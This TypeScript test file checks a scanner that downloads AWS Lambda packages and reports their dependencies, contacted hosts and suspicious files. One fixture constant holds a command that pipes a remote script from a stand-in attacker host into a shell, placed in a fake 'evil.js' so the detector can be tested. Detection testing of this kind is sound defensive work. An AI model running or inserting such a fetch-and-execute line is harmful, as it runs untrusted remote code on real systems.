import { LambdaClient } from '@aws-sdk/client-lambda';
import type { Listed } from '../../../../shared/search/match';
import { LARGEST_PACKAGE, lookIntoPackages, MOST_PACKAGES } from '../../../../shared/search/packages';
import { OF_NOBODY } from '../../../fixtures/answered';
import { answering } from '../../../fixtures/answering';
import { zipOf } from '../../../fixtures/zip';

const EVIL = "require('child_process').exec('curl -s http://pool.badhost.example/x | sh');\n";
const arnOf = (name: string): string => `arn:aws:lambda:eu-west-1:123456789012:function:${name}`;
const listed = (index: number, more: Partial<Listed> = {}): Listed => ({
  functionName: `f${index}`,
  functionArn: arnOf(`f${index}`),
  codeSha256: `digest ${index}`,
  codeSize: 1000,
  layers: [],
  lastModified: new Date(Date.UTC(2026, 10, 1, 0, index)).toISOString(),
  ...more,
});

describe('looking into the packages of other functions', () => {
  const opened: string[] = [];
  beforeEach(() => opened.splice(0));
  /** Lambda's links, and what is behind them. */
  const toolsOf = (body: (name: string) => Buffer | ReadableStream, isOverdue = () => false) => ({
    lambda: answering(new LambdaClient(OF_NOBODY), (_command, { FunctionName }) => {
      opened.push(String(FunctionName).split(':').at(-1) ?? '');
      return { Code: { Location: `https://link.invalid/${FunctionName}` } };
    }),
    fetch: (async (link: string) => {
      const bytes = body(link.split(':').at(-1) ?? '');
      return new Response(Buffer.isBuffer(bytes) ? new Uint8Array(bytes) : bytes);
    }) as typeof globalThis.fetch,
    signal: AbortSignal.timeout(60_000),
    isOverdue,
  });

  it('gives dependencies and marked files, and fetches the same bytes once', async () => {
    const archive = await zipOf({
      'evil.js': EVIL,
      'honest.js': "exports.one = 'https://api.partner.example/';\n",
      'node_modules/left-pad-utils/package.json': '{"name":"left-pad-utils","version":"1.2.1"}',
    });
    const { found, gaps } = await lookIntoPackages(
      [listed(1), listed(2, { codeSha256: 'digest 1' })],
      toolsOf(() => archive),
    );

    expect(opened).toEqual(['f2']);
    expect(found.map(({ functionArn }) => functionArn)).toEqual([arnOf('f2'), arnOf('f1')]);
    for (const { dependencies, marked, hosts } of found) {
      // Not the one that the honest file names.
      expect([...hosts]).toEqual(['pool.badhost.example']);
      expect([...dependencies]).toEqual(['left-pad-utils@1.2.1']);
      expect(marked.size).toBe(1);
    }
    expect(gaps).toEqual([]);
  });

  it('opens so many at most, the most recently changed first, and says how many it did not', async () => {
    const archive = await zipOf({ 'index.js': 'exports.one = 1;\n' });
    const functions = Array.from({ length: MOST_PACKAGES + 3 }, (_, index) => listed(index));
    const { gaps } = await lookIntoPackages(
      functions,
      toolsOf(() => archive),
    );

    expect(opened).toEqual(
      functions
        .slice(3)
        .map(({ functionName }) => functionName)
        .toReversed(),
    );
    expect(gaps).toEqual(['packages of 3 functions that were changed longer ago']);
  });

  it('believes no size: what is said to be large is not fetched, and what is larger than it says is let go', async () => {
    let sent = 0;
    const endless = () =>
      new ReadableStream({
        pull: (controller) => {
          sent += 1;
          controller.enqueue(new Uint8Array(8 * 1024 * 1024));
        },
      });
    const { found, gaps } = await lookIntoPackages(
      [listed(1, { codeSize: LARGEST_PACKAGE + 1 }), listed(2)],
      toolsOf(endless),
    );

    expect(found).toEqual([]);
    expect(opened).toEqual(['f2']);
    expect(sent).toBeLessThan(20);
    expect(gaps).toEqual([
      `packages of 1 functions that are larger than ${LARGEST_PACKAGE} bytes`,
      'packages of 1 functions that could not be read (images among them)',
    ]);
  });

  it('goes on where one cannot be read, and stops when its time is over', async () => {
    const archive = await zipOf({ 'index.js': 'exports.one = 1;\n' });
    const broken = await lookIntoPackages(
      [listed(1), listed(2)],
      toolsOf((name) => (name === 'f2' ? Buffer.from('no archive') : archive)),
    );
    expect(broken.found.map(({ functionArn }) => functionArn)).toEqual([arnOf('f1')]);

    const late = await lookIntoPackages(
      [listed(1), listed(2)],
      toolsOf(
        () => archive,
        () => true,
      ),
    );
    expect(late).toEqual({ found: [], gaps: ['packages of 2 functions that were changed longer ago'] });
  });
});
